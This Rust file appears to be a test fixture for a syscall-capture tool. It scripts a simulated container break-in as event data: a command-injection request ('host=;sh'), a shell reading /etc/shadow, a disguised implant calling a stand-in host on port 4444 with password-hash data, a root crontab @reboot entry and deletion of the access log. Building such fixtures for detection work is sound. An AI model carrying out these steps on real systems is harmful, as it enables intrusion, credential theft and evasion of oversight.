//! A small capture with a story, the same every time: a web server in one container is asked for a shell, the shell reads
//! the password file, runs what it dropped and calls home; a database in another container goes about its work; the ring
//! overflows once. Below it how captures are told, and one that is hostile.

mod hostile;
mod tale;

use afterimage_model::{Blob, EventFlags, Process, Role, User, Value};
pub use hostile::{corpus, hostile};
use std::sync::Arc;
use tale::inet;
pub use tale::{BEGIN_WALL, Tale, Told, text};

/// The break-in.
pub fn break_in() -> Told {
    let mut t = Tale::new();
    let web = t.container("web", "nginx:1.25");
    let db = t.container("db", "postgres:16");
    for (container, uid, name) in [(web, 0, "root"), (web, 101, "nginx"), (db, 999, "postgres")] {
        let user = User {
            container: Some(container),
            uid,
            name: name.into(),
            ..User::default()
        };
        t.tables
            .users
            .insert((Some(container), uid), Arc::new(user));
    }
    let master = t.process(
        4100,
        None,
        web,
        0,
        "/usr/sbin/nginx",
        "nginx\0-g\0daemon off;\0",
    );
    let worker = t.process(
        4120,
        Some(master),
        web,
        0,
        "/usr/sbin/nginx",
        "nginx: worker process\0",
    );
    t.with(worker, |p| (p.uid, p.euid) = (101, 101));
    let postgres = t.process(
        4200,
        None,
        db,
        0,
        "/usr/lib/postgresql/16/bin/postgres",
        "postgres\0-D\0/var/lib/postgresql/data\0",
    );
    t.with(postgres, |p| (p.uid, p.euid) = (999, 999));

    t.call("container_start", master, None, 0, &[("id", text("web"))]);
    t.call("container_start", postgres, None, 0, &[("id", text("db"))]);
    let listener = t.socket("10.0.0.2:80", "0.0.0.0:0", Role::Server);
    t.call(
        "socket",
        master,
        Some(listener),
        6,
        &[("domain", Value::Num(2)), ("type", Value::Num(1))],
    );
    t.call(
        "bind",
        master,
        Some(listener),
        0,
        &[
            ("fd", Value::Num(6)),
            ("addr", inet("10.0.0.2:80")),
            ("addrlen", Value::Num(16)),
        ],
    );
    t.call(
        "listen",
        master,
        Some(listener),
        0,
        &[("fd", Value::Num(6)), ("backlog", Value::Num(511))],
    );

    let wal = t.file("/var/lib/postgresql/data/pg_wal/000000010000000000000001");
    let index = t.file("/usr/share/nginx/html/index.html");
    for n in 0..6u16 {
        t.wait(120);
        let client = t.socket(
            "10.0.0.2:80",
            &format!("198.51.100.{}:{}", 10 + n % 3, 40_000 + n),
            Role::Server,
        );
        t.call(
            "accept4",
            worker,
            Some(client),
            9,
            &[("fd", Value::Num(6)), ("addr", inet("198.51.100.10:40000"))],
        );
        let request = "GET / HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: curl/8.5\r\n\r\n";
        t.call(
            "read",
            worker,
            Some(client),
            request.len() as i64,
            &[
                ("fd", Value::Num(9)),
                ("buf", text(request)),
                ("count", Value::Num(1024)),
            ],
        );
        t.call(
            "openat",
            worker,
            Some(index),
            10,
            &[
                ("dirfd", Value::Num(-100)),
                ("path", text("/usr/share/nginx/html/index.html")),
                ("flags", Value::Num(0o4000)),
            ],
        );
        let page = "HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello";
        t.call(
            "write",
            worker,
            Some(client),
            page.len() as i64,
            &[
                ("fd", Value::Num(9)),
                ("buf", text(page)),
                ("count", Value::Num(page.len() as i64)),
            ],
        );
        t.call("fsync", postgres, Some(wal), 0, &[("fd", Value::Num(3))]);
    }

    t.wait(300);
    let evil = t.socket("10.0.0.2:80", "203.0.113.66:51515", Role::Server);
    t.call(
        "accept4",
        worker,
        Some(evil),
        11,
        &[("fd", Value::Num(6)), ("addr", inet("203.0.113.66:51515"))],
    );
    let request =
        "GET /cgi-bin/status?host=;sh HTTP/1.1\r\nHost: shop.example\r\nX-\u{1b}[2J: 1\r\n\r\n";
    t.call(
        "read",
        worker,
        Some(evil),
        request.len() as i64,
        &[
            ("fd", Value::Num(11)),
            ("buf", text(request)),
            ("count", Value::Num(1024)),
        ],
    );
    let child = t.process(
        4711,
        Some(worker),
        web,
        0,
        "/usr/sbin/nginx",
        "nginx: worker process\0",
    );
    t.call(
        "clone_child",
        worker,
        None,
        0,
        &[("parent_tid", Value::Num(4120)), ("pid", Value::Num(4711))],
    );
    let shell = t.process(
        4711,
        Some(worker),
        web,
        1,
        "/usr/bin/dash",
        "sh\0-c\0cat /etc/shadow; /tmp/.cache/kworker\0",
    );
    t.call(
        "execve",
        shell,
        None,
        0,
        &[
            ("path", text("/bin/sh")),
            (
                "argv",
                text("sh\0-c\0cat /etc/shadow; /tmp/.cache/kworker\0"),
            ),
        ],
    );
    let _ = child;
    t.lose(Some(312), 400);

    let cat = t.process(
        4712,
        Some(shell),
        web,
        1,
        "/usr/bin/cat",
        "cat\0/etc/shadow\0",
    );
    t.call(
        "execve",
        cat,
        None,
        0,
        &[
            ("path", text("/usr/bin/cat")),
            ("argv", text("cat\0/etc/shadow\0")),
        ],
    );
    t.call(
        "openat",
        cat,
        None,
        -2,
        &[
            ("dirfd", Value::Num(-100)),
            ("path", text("/usr/lib/locale/locale-archive")),
            ("flags", Value::Num(0)),
        ],
    );
    let shadow = t.file("/etc/shadow");
    t.call(
        "openat",
        cat,
        Some(shadow),
        3,
        &[
            ("dirfd", Value::Num(-100)),
            ("path", text("/etc/shadow")),
            ("flags", Value::Num(0)),
        ],
    );
    let secret = "root:$y$j9T$7h:19800:0:99999:7:::\nwww-data:*:19800:0:99999:7:::\n";
    t.call(
        "read",
        cat,
        Some(shadow),
        secret.len() as i64,
        &[
            ("fd", Value::Num(3)),
            ("buf", text(secret)),
            ("count", Value::Num(131_072)),
        ],
    );
    let dropped = t.file("/tmp/.cache/kworker");
    t.call(
        "openat",
        shell,
        Some(dropped),
        4,
        &[
            ("dirfd", Value::Num(-100)),
            ("path", text("/tmp/.cache/kworker")),
            ("flags", Value::Num(0o1101)),
            ("mode", Value::Num(0o755)),
        ],
    );
    let cut = Value::Bytes(Blob {
        bytes: b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0>\0".to_vec(),
        full_len: 48_128,
    });
    t.call(
        "write",
        shell,
        Some(dropped),
        48_128,
        &[
            ("fd", Value::Num(4)),
            ("buf", cut),
            ("count", Value::Num(48_128)),
        ],
    )
    .flags
    .set(EventFlags::CUT);
    let implant = t.process(
        4713,
        Some(shell),
        web,
        1,
        "/tmp/.cache/kworker",
        "[kworker/0:1]\0",
    );
    t.with(implant, |p| p.exe_flags = Process::EXE_UPPER);
    t.call(
        "execve",
        implant,
        None,
        0,
        &[
            ("path", text("/tmp/.cache/kworker")),
            ("argv", text("[kworker/0:1]\0")),
        ],
    );
    let home = t.socket("10.0.0.2:48122", "203.0.113.66:4444", Role::Client);
    t.call(
        "connect",
        implant,
        Some(home),
        -111,
        &[
            ("fd", Value::Num(3)),
            ("addr", inet("203.0.113.66:4444")),
            ("addrlen", Value::Num(16)),
        ],
    );
    t.wait(200);
    t.call(
        "connect",
        implant,
        Some(home),
        0,
        &[
            ("fd", Value::Num(3)),
            ("addr", inet("203.0.113.66:4444")),
            ("addrlen", Value::Num(16)),
        ],
    );
    t.call(
        "sendto",
        implant,
        Some(home),
        24,
        &[
            ("fd", Value::Num(3)),
            ("buf", text("id=web;shadow=root:$y$j9")),
            ("size", Value::Num(24)),
        ],
    );
    let cron = t.file("/var/spool/cron/crontabs/root");
    t.call(
        "openat",
        implant,
        None,
        -13,
        &[
            ("dirfd", Value::Num(-100)),
            ("path", text("/etc/cron.d/x")),
            ("flags", Value::Num(0o101)),
            ("mode", Value::Num(0o644)),
        ],
    );
    t.call(
        "openat",
        implant,
        Some(cron),
        5,
        &[
            ("dirfd", Value::Num(-100)),
            ("path", text("/proc/self/root/var/spool/cron/crontabs/root")),
            ("flags", Value::Num(0o2001)),
        ],
    )
    .flags
    .set(EventFlags::CLAIM_DIFFERS);
    t.call(
        "write",
        implant,
        Some(cron),
        38,
        &[
            ("fd", Value::Num(5)),
            ("buf", text("@reboot /tmp/.cache/kworker >/dev/null\n")),
            ("count", Value::Num(39)),
        ],
    );
    t.call(
        "unlinkat",
        shell,
        None,
        0,
        &[
            ("dirfd", Value::Num(-100)),
            ("path", text("/var/log/nginx/access.log")),
            ("flags", Value::Num(0)),
        ],
    );
    t.call(
        "procexit",
        shell,
        None,
        0,
        &[("status", Value::Num(0)), ("signal", Value::Num(0))],
    );
    for _ in 0..3 {
        t.wait(150);
        t.call("fsync", postgres, Some(wal), 0, &[("fd", Value::Num(3))]);
    }
    t.call("container_stop", master, None, 0, &[("id", text("web"))]);
    t.tell()
}

/// Nothing happened, and nobody was there.
pub fn empty() -> Told {
    Tale::new().tell()
}
